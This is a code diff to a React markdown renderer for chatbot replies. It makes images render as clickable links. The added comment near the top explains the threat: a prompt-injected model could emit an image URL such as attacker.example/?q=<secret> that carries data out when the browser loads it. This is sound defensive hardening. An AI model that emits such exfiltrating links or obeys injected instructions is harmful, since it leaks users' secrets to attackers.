@@ -1,5 +1,7 @@
 // A bot's reply rendered as markdown. react-markdown builds React elements (never HTML strings), drops
-// raw HTML and neutralises javascript: links, so a reply cannot inject markup or script.
+// raw HTML and neutralises javascript: links, so a reply cannot inject markup or script. Images become
+// links: a model's output (steered by a prompt injection) must not make the browser fetch a URL that
+// carries data out (`![](https://attacker.example/?q=<secret>)`); the person decides whether to open it.
 import ReactMarkdown, { type Components } from "react-markdown";
 
 const components: Components = {
@@ -7,6 +9,16 @@ const components: Components = {
   a: ({ children, href }) => (
     <a href={href} target="_blank" rel="noopener noreferrer nofollow" className="text-indigo-700 underline">
       {children}
+    </a>
+  ),
+  img: ({ src, alt }) => (
+    <a
+      href={typeof src === "string" ? src : undefined}
+      target="_blank"
+      rel="noopener noreferrer nofollow"
+      className="text-indigo-700 underline"
+    >
+      {`Image: ${alt || src || "untitled"}`}
     </a>
   ),
   ul: ({ children }) => <ul className="my-1 list-disc pl-5">{children}</ul>,
